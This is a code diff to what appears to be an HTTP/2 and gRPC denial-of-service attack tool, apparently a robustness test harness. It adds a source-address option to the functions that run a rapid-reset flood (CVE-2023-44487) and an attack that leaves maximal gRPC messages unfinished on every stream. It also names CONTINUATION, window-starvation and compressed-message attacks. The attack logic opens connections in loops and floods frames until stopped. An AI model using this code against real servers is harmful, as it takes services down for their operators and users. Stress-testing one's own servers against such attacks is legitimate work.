@@ -31,16 +31,17 @@ const FRAMES = 256
 /** Settings that a peer sends when a connection begins: with the second its windows are as wide as they get. */
 const SETTINGS_OF_PEER = 2
 
-/** Keeps `connections` open until the attack is over, and has each do `act`, again and again. */
+/** Keeps `connections` open until the attack is over, and has each do `act`, again and again. `from`: as {@link RawHttp2.open}. */
 async function each(
   attack: Attack,
   connections: number,
   hello: readonly (readonly [number, number])[],
   act: (raw: RawHttp2, index: number) => Promise<void> | void,
+  from?: string,
 ): Promise<void> {
   const lane = async (index: number) => {
     while (!attack.signal.aborted) {
-      const raw = await RawHttp2.open(attack.target.endpoint.address, attack.any().identity, hello)
+      const raw = await RawHttp2.open(attack.target.endpoint.address, attack.any().identity, hello, from)
       if (raw === undefined) {
         attack.note('http2', 'closed')
         await pause()
@@ -67,8 +68,8 @@ const ask = callHeaders(methods.status.path)
 const openCall = (stream: number, headers = ask, flags = END_HEADERS) => frame(HEADERS, flags, stream, headers)
 
 /** CVE-2023-44487: calls that are reset in the same breath. */
-export function rapidResets(attack: Attack): Promise<void> {
-  return each(attack, CONNECTIONS, [], (raw) => {
+export function rapidResets(attack: Attack, from?: string): Promise<void> {
+  const act = (raw: RawHttp2) => {
     const frames: Buffer[] = []
     for (const _ of times(FRAMES)) {
       const stream = raw.nextStream()
@@ -76,7 +77,8 @@ export function rapidResets(attack: Attack): Promise<void> {
     }
     attack.sent += FRAMES
     raw.write(...frames)
-  })
+  }
+  return each(attack, CONNECTIONS, [], act, from)
 }
 
 /** CVE-2024-27316: headers that never end. */
@@ -142,11 +144,11 @@ export function closedWindows(attack: Attack): Promise<void> {
 }
 
 /** Requests of the longest kind that lack their last bytes, on every stream there may be. */
-export function unfinishedMessages(attack: Attack): Promise<void> {
+export function unfinishedMessages(attack: Attack, from?: string): Promise<void> {
   const head = grpcMessage(new Uint8Array(0), MESSAGE_BYTES_MAX)
   const piece = new Uint8Array(FRAME_BYTES_MAX)
   const opened = new WeakMap<RawHttp2, number>()
-  return each(attack, GREEDY_CONNECTIONS, [], async (raw) => {
+  const act = async (raw: RawHttp2) => {
     const made = opened.get(raw) ?? 0
     if (made >= STREAMS || raw.settingsSeen < SETTINGS_OF_PEER) return
     opened.set(raw, made + 1)
@@ -158,7 +160,8 @@ export function unfinishedMessages(attack: Attack): Promise<void> {
       await raw.drained(attack.signal)
       if (raw.closed || attack.signal.aborted) return
     }
-  })
+  }
+  return each(attack, GREEDY_CONNECTIONS, [], act, from)
 }
 
 /** Very small messages that are said to be compressed: each costs the reader a decompressor, hundreds a frame. */
